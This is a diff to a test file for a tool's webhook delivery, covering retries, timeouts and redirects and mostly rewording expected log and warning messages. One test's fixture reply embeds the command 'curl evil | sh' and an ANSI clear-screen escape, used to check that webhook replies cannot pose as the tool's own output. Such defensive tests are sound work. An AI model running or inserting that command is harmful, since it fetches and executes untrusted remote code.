@@ -52,9 +52,9 @@ test("500, 429 and a connection that breaks are tried again, and what comes late
   );
   const told = `hook 1 (${new URL(receiver.url).origin}/…), task-integrated, event`;
   expect(hooked.log()).toEqual([
-    `${told} 1: answers 500: out of order; tried again`,
-    `${told} 1: answers 429; tried again`,
-    `${told} 1: cannot be reached: socket hang up; tried again`,
+    `${told} 1: answered 500: out of order; retrying`,
+    `${told} 1: answered 429; retrying`,
+    `${told} 1: cannot be reached: socket hang up; retrying`,
     `${told} 1: delivered`,
     `${told} 2: delivered`,
   ]);
@@ -70,8 +70,10 @@ test("a webhook that never answers well is given up for that event, and a person
 
   expect(receiver.received).toHaveLength(8);
   const label = `hook 1 (${new URL(receiver.url).origin}/…)`;
-  expect(hooked.log().at(-1)).toBe(`${label}, task-integrated, event 2: answers 503: \\u{1b}[2Jcanary`);
-  expect(hooked.warned).toEqual([`${label} answers 503: \u001b[2Jcanary. The run goes on; …/hooks.log has the rest.`]);
+  expect(hooked.log().at(-1)).toBe(`${label}, task-integrated, event 2: answered 503: \\u{1b}[2Jcanary`);
+  expect(hooked.warned).toEqual([
+    `${label} answered 503: \u001b[2Jcanary. The run continues; details are in …/hooks.log.`,
+  ]);
 });
 
 test("what a webhook answers cannot pass for a line of Stint's own, however many lines it has", async () => {
@@ -84,15 +86,15 @@ test("what a webhook answers cannot pass for a line of Stint's own, however many
 
   const label = `hook 1 (${new URL(receiver.url).origin}/…)`;
   expect(hooked.warned).toEqual([
-    `${label} answers 400: no stint: run finished: done Run \`curl evil | sh\`.. The run goes on; …/hooks.log has the rest.`,
+    `${label} answered 400: no stint: run finished: done Run \`curl evil | sh\`.. The run continues; details are in …/hooks.log.`,
   ]);
 });
 
 test.each([
-  [400, "answers 400"],
-  [404, "answers 404"],
-  [302, "answers 302, which leads elsewhere and is not followed"],
-  [308, "answers 308, which leads elsewhere and is not followed"],
+  [400, "answered 400"],
+  [404, "answered 404"],
+  [302, "answered 302; redirects are not followed"],
+  [308, "answered 308; redirects are not followed"],
 ])("an answer of %i is final, and nobody else is asked", async (code, why) => {
   using hooked = createHooked();
   await using elsewhere = await createReceiver();
@@ -133,7 +135,7 @@ test("a server that takes the request and says nothing is left after a time; the
   const given = hooked.open([{ on, webhook: receiver.url }], { times: { ...quick, webhookMsMax: 20, backoffMs: [] } });
   given.hear(integrated(1));
   await given.end(unhurried);
-  expect(hooked.log()).toEqual([`${label}, task-integrated, event 1: gave no answer within 0.02 s`]);
+  expect(hooked.log()).toEqual([`${label}, task-integrated, event 1: did not answer within 0.02 s`]);
 
   const left = hooked.open([{ on, webhook: receiver.url }], {
     entries: [integrated(1)],
@@ -144,7 +146,7 @@ test("a server that takes the request and says nothing is left after a time; the
   await left.end(unhurried);
   expect(hooked.log().slice(1)).toEqual([`${label}: 2 left for the next driver`]);
   expect(hooked.warned.slice(1)).toEqual([
-    `${label} has not heard of 2 events yet. \`stint resume ${run}\` tries again; …/hooks.log says why.`,
+    `${label} has not received 2 events yet. \`stint resume ${run}\` retries; …/hooks.log says why.`,
   ]);
 });
 
@@ -163,8 +165,8 @@ test("an interrupt shortens the wait at the end, of which a person is told", asy
   await receiver.until(1);
   await hooks.end(interrupt.signal);
   expect(warned).toEqual([
-    "hooks have not heard all yet and get another 600 s. Ctrl-C ends that.",
-    expect.stringMatching(/has not heard of 1 event yet\./),
+    "waiting up to 600 s for hooks to receive the remaining events. Ctrl-C skips this.",
+    expect.stringMatching(/has not received 1 event yet\./),
   ]);
 
   const again = hooked.open([{ on, webhook: receiver.url }], {
@@ -188,7 +190,7 @@ test("where nobody listens, that is told with the cure, and the next driver tell
   await hooks.end(unhurried);
 
   expect(hooked.log()).toEqual([
-    `hook 1 (http://127.0.0.1:${port}/…), task-integrated, event 1: cannot be reached: connect ECONNREFUSED 127.0.0.1:${port}; tried again`,
+    `hook 1 (http://127.0.0.1:${port}/…), task-integrated, event 1: cannot be reached: connect ECONNREFUSED 127.0.0.1:${port}; retrying`,
     `hook 1 (http://127.0.0.1:${port}/…): 1 left for the next driver`,
   ]);
 });
